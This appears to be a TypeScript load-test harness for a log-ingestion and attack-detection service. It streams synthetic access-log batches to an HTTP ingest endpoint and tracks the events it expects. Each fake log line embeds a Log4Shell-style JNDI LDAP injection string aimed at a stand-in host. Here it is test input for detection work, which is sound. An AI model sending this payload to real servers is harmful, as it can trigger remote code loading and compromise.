import { setTimeout as delay } from 'node:timers/promises';
import { pushFingerprint } from '@vigil/ingestor/push/push-batches';
import { lineId } from '@vigil/shared/lines/ids';
import type { AttackLog } from './attack-log.ts';

/** Name under which the stack knows its API key. */
const KEY_NAME = 'stack';
/** Between two portions; only keeps a small machine from drowning. */
const PAUSE_MS = 50;

/** What was sent, and which events must come of it. */
export interface Load {
  readonly expected: ReadonlySet<string>;
  readonly lines: number;
}

/**
 * Load that goes on until it is stopped: a log that grows, and pushes over HTTP by somebody who, like a log shipper, sends a batch
 * again until it is accepted.
 */
export class SteadyLoad implements Load {
  readonly #log: AttackLog;
  readonly #push: (batchId: string, body: string) => Promise<number | undefined>;
  readonly #pushed = new Set<string>();
  /** Answers other than 202, and requests without one; each was sent again. */
  readonly refusals: (number | undefined)[] = [];
  #going = true;
  readonly #done: Promise<unknown>;

  constructor(log: AttackLog, target: { url: string; apiKey: string }) {
    this.#log = log;
    this.#push = (batchId, body) => push(target, batchId, body);
    this.#done = Promise.all([this.#write(), this.#pushAll()]);
  }

  get expected(): ReadonlySet<string> {
    return new Set([...this.#log.expected, ...this.#pushed]);
  }

  get lines(): number {
    return this.#log.lines + this.#pushed.size;
  }

  async stop(): Promise<void> {
    this.#going = false;
    await this.#done;
  }

  async #write(): Promise<void> {
    while (this.#going) {
      this.#log.write(20);
      await delay(PAUSE_MS);
    }
  }

  async #pushAll(): Promise<void> {
    for (let batch = 0; this.#going; batch += 1) {
      const batchId = `batch-${batch}`;
      const body = `${attackFrom(`192.0.2.${batch % 250}`)}\n${attackFrom(`198.51.100.${batch % 250}`)}\n`;
      for (let status; status !== 202; await delay(PAUSE_MS)) {
        status = await this.#push(batchId, body);
        if (status !== 202) this.refusals.push(status);
      }
      for (const index of [0, 1]) this.#pushed.add(lineId('pushed', pushFingerprint(KEY_NAME, batchId), index));
    }
  }
}

/** Undefined where nobody answered. */
async function push(
  target: { url: string; apiKey: string },
  batchId: string,
  body: string,
): Promise<number | undefined> {
  try {
    const answer = await fetch(`${target.url}/ingest/batch?source=pushed&batch_id=${batchId}`, {
      method: 'POST',
      headers: { 'x-api-key': target.apiKey, 'content-type': 'text/plain' },
      body,
    });
    await answer.body?.cancel();
    return answer.status;
  } catch {
    return undefined;
  }
}

const attackFrom = (ip: string): string =>
  `${ip} - - [02/Mar/2026:11:00:00 +0000] "GET /?x=$%7Bjndi:ldap://198.51.100.9/a%7D HTTP/1.1" 200 1 "-" "curl/8"`;
